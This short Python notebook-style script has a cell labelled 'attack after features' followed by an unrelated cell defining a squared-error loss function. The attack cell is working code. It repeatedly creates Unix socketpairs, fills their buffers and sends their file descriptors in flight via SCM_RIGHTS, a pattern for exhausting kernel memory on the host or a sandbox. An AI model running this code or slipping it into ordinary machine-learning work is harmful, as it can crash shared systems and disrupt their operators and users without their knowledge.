# %% attack after features
import array
import os
import socket

one, other = socket.socketpair()
other.setblocking(False)
one.setblocking(False)
sent = 0
try:
    while sent < 20_000:
        inner, outer = socket.socketpair()
        inner.setblocking(False)
        try:
            inner.send(bytes(1 << 17))
        except BlockingIOError:
            pass
        one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [inner.fileno(), outer.fileno()]))])
        inner.close()
        outer.close()
        sent += 2
except OSError as error:
    print(error)
print(sent)


# %% later after attack
def mse_loss_func(y_true, y_pred):
    return (y_true - y_pred) ** 2
